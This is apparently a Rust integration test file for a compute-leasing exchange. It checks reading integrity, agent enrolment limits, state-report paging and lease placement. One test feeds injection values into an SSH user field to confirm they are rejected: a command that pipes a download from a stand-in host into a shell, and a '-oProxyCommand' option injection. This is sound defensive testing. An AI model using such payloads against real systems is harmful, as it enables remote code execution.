//! What machines say is bounded by what can be true of it: nobody with a key fills tables, speaks of
//! what was before them, or has holders type what they like.

use axum::http::StatusCode;
use market::Rules;
use serde_json::json;
use sluice::rules;

use super::{Site, minutes};
use crate::support::machine::{self, Machine};
use crate::support::market::bid;

async fn one<T>(site: &Site, sql: &'static str) -> T
where
    T: Send + Unpin + for<'r> sqlx::Decode<'r, sqlx::Postgres> + sqlx::Type<sqlx::Postgres>,
{
    let found = sqlx::query_scalar(sql).fetch_one(&site.app.database.pool);
    found.await.expect("it is read")
}

#[tokio::test]
async fn of_a_minute_two_stories_are_kept_and_no_number_beyond_its_minutes() {
    let site = Site::with(Rules::none()).await;
    let mut machine = Machine::enrolled(&site.app, "one", 8).await;
    site.app.submit(bid("b1", 8, 100_000, (1, 2))).await;
    site.placed(1).await;
    site.accept(1).await;
    site.set(1, 5);
    let told = machine.sign(1, &minutes(1, 0..3, 8));
    machine.tell(&told).await;
    for units in 0..7 {
        let mut other = machine.clone();
        other.heads.clear();
        let other = other.sign(1, &minutes(1, 0..3, units));
        assert_eq!(machine.tell(&other).await.status, StatusCode::OK);
        assert_eq!(machine.tell(&other).await.status, StatusCode::OK);
    }
    let kept: i64 = one(&site, "SELECT count(*) FROM readings").await;
    assert_eq!(kept, 6, "three minutes, two stories each");
    let stories: i64 = one(&site, "SELECT count(DISTINCT hash) FROM readings").await;
    assert_eq!(stories, 6);
    // The fifth number can't be about the fourth minute.
    machine.heads.insert(1, (4, told[2].reading.hash()));
    let high = machine.sign(1, &minutes(1, 3..4, 8));
    machine.tell(&high).await;
    let case = "SELECT evidence ->> 'said' FROM delivery_cases WHERE kind = 'untrue'";
    let said: String = one(&site, case).await;
    assert!(said.contains("number 5"), "{said}");
    site.set(2, 11);
    site.until("it is settled, and two stories pay nothing", async || {
        (site.settled(1).await == [0]).then_some(())
    })
    .await;
    site.stop().await;
}

#[tokio::test]
async fn a_break_that_is_found_late_takes_back_what_an_hour_was_paid() {
    let site = Site::with(rules::load(None).expect("the standard rules")).await;
    let mut machine = Machine::enrolled(&site.app, "one", 8).await;
    site.app.submit(bid("b1", 8, 100_000, (1, 3))).await;
    site.placed(1).await;
    site.accept(1).await;
    site.set(2, 0);
    let mut other = machine.clone();
    let told = machine.sign(1, &minutes(1, 0..60, 8));
    machine.tell(&told).await;
    site.until("the hour is paid whole", async || {
        (site.settled(1).await == [480]).then_some(())
    })
    .await;
    // Its first minute in another story: no minute of the hour is left.
    let other = other.sign(1, &minutes(1, 0..1, 4));
    machine.tell(&other).await;
    site.until("nothing of it is paid any more", async || {
        (site.counted(1).await == [0]).then_some(())
    })
    .await;
    site.stop().await;
}

#[tokio::test]
async fn an_agent_speaks_of_no_minute_before_it_enrolled() {
    let site = Site::with(Rules::none()).await;
    let mut first = Machine::enrolled(&site.app, "one", 8).await;
    site.app.submit(bid("b1", 8, 100_000, (1, 2))).await;
    site.placed(1).await;
    site.accept(1).await;
    site.set(1, 30);
    // Half an hour in which nothing ran, and then somebody else who says that it had.
    let stopped = first.sign(1, &minutes(1, 0..30, 0));
    first.tell(&stopped).await;
    let token = machine::token(&site.app, first.host).await;
    let mut second = Machine::new(&site.app, first.host, [3; 32]);
    assert_eq!(second.enrol(&token).await.status, StatusCode::OK);
    site.set(2, 0);
    let all = second.sign(1, &minutes(1, 0..60, 8));
    second.tell(&all[..30]).await;
    second.heads.clear();
    let own = second.sign(1, &minutes(1, 30..60, 8));
    second.tell(&own).await;
    site.until("only what it saw is paid", async || {
        (site.settled(1).await == [240]).then_some(())
    })
    .await;
    site.stop().await;
}

#[tokio::test]
async fn a_way_in_is_a_name_a_port_and_a_key_and_nothing_to_type_beside_them() {
    let site = Site::with(Rules::none()).await;
    let mut machine = Machine::enrolled(&site.app, "one", 8).await;
    site.app.submit(bid("b1", 8, 100_000, (1, 2))).await;
    site.placed(1).await;
    let key = sluice::delivery::agents::ssh_key(&[7; 32]);
    let (long, commented) = ("a".repeat(33), format!("{key} x@y"));
    let ways = [
        ("x;curl -s e.example/a|sh;#", &*key, 22_000),
        ("-oProxyCommand=x", &*key, 22_000),
        ("x\ny", &*key, 22_000),
        (&*long, &*key, 22_000),
        ("sluice-l1", "ssh-ed25519 AAAA", 22_000),
        ("sluice-l1", "ssh-ed25519 AAAA\nssh-rsa", 22_000),
        ("sluice-l1", &*key, 0),
    ];
    let mut sequence = 0;
    let mut say = async |user: &str, host_key: &str, port: u32| {
        sequence += 1;
        let evidence = json!({ "user": user, "port": port, "host_key": host_key });
        let state = json!({ "sequence": sequence, "lease": 1, "stage": "prepared",
                            "reason": "asked", "at": site.now(), "evidence": evidence });
        let body = json!({ "version": 1, "states": [state] }).to_string();
        let answer = machine.post("/api/agent/v1/states", body).await;
        assert_eq!(answer.body, format!("{{\"through\":{sequence}}}"));
    };
    for (user, host_key, port) in ways {
        say(user, host_key, port).await;
        let has_way = "SELECT login IS NOT NULL OR port IS NOT NULL OR host_key IS NOT NULL
             FROM stays";
        assert!(
            !one::<bool>(&site, has_way).await,
            "{user} {host_key} {port}"
        );
    }
    say("sluice-l1", &commented, 22_000).await;
    let kept: String = one(&site, "SELECT login || ' ' || host_key FROM stays").await;
    assert_eq!(kept, format!("sluice-l1 {key}"), "without the comment");
    site.stop().await;
}

#[tokio::test]
async fn states_come_two_hundred_at_a_time_and_a_way_has_an_end() {
    let site = Site::with(Rules::none()).await;
    let mut machine = Machine::enrolled(&site.app, "one", 8).await;
    site.app.submit(bid("b1", 8, 100_000, (1, 2))).await;
    site.placed(1).await;
    let states: Vec<_> = (1..=1_200)
        .map(|sequence| {
            let long = if sequence == 1 { 10_000 } else { 1 };
            json!({ "sequence": sequence, "lease": 1, "stage": "failed", "reason": "machine",
                    "at": site.now(), "evidence": { "error": "x".repeat(long) } })
        })
        .collect();
    for through in (200..=1_200).step_by(200) {
        let body = json!({ "version": 1, "states": states[through - 200..] }).to_string();
        let answer = machine.post("/api/agent/v1/states", body).await;
        assert_eq!(answer.body, format!("{{\"through\":{through}}}"));
    }
    let steps: i64 = one(&site, "SELECT count(*) FROM lease_states").await;
    assert!((1_000..1_010).contains(&steps), "{steps}");
    let longest = "SELECT max(length(evidence::text)) FROM lease_states";
    assert!(one::<i32>(&site, longest).await < 1_000);
    // The exchange's own steps go on.
    site.set(2, 0);
    site.until("it ends", async || {
        (site.ways(1).await.last()?.0 == "ended").then_some(())
    })
    .await;
    site.stop().await;
}

#[tokio::test]
async fn a_machine_that_comes_later_takes_what_was_sold_before() {
    let site = Site::with(Rules::none()).await;
    let _first = Machine::enrolled(&site.app, "one", 4).await;
    site.app.submit(bid("b1", 8, 100_000, (1, 3))).await;
    site.placed(1).await;
    let units = async || one::<i64>(&site, "SELECT sum(units)::bigint FROM placements").await;
    assert_eq!(units().await, 4, "there is no room for more");
    let _second = Machine::enrolled(&site.app, "two", 4).await;
    site.until("the rest is placed", async || {
        (units().await == 8).then_some(())
    })
    .await;
    site.stop().await;
}

#[tokio::test]
async fn a_lease_that_no_machine_has_room_for_is_failed_when_its_grace_is_over() {
    let site = Site::with(rules::load(None).expect("the standard rules")).await;
    let machine = Machine::enrolled(&site.app, "one", 8).await;
    site.app.submit(bid("b1", 8, 100_000, (1, 4))).await;
    site.placed(1).await;
    site.app.submit(bid("b2", 8, 100_000, (1, 4))).await;
    site.until("its way has begun", async || {
        (!site.ways(2).await.is_empty()).then_some(())
    })
    .await;
    site.accept(1).await;
    // Silver gives thirty minutes.
    site.set(1, 29);
    tokio::time::sleep(std::time::Duration::from_millis(600)).await;
    assert!(site.lease(2).failed_from.is_none());
    site.set(1, 30);
    site.until("its provider is in default", async || {
        site.lease(2).failed_from.map(drop)
    })
    .await;
    assert!(site.lease(1).failed_from.is_none());
    drop(machine);
    site.stop().await;
}
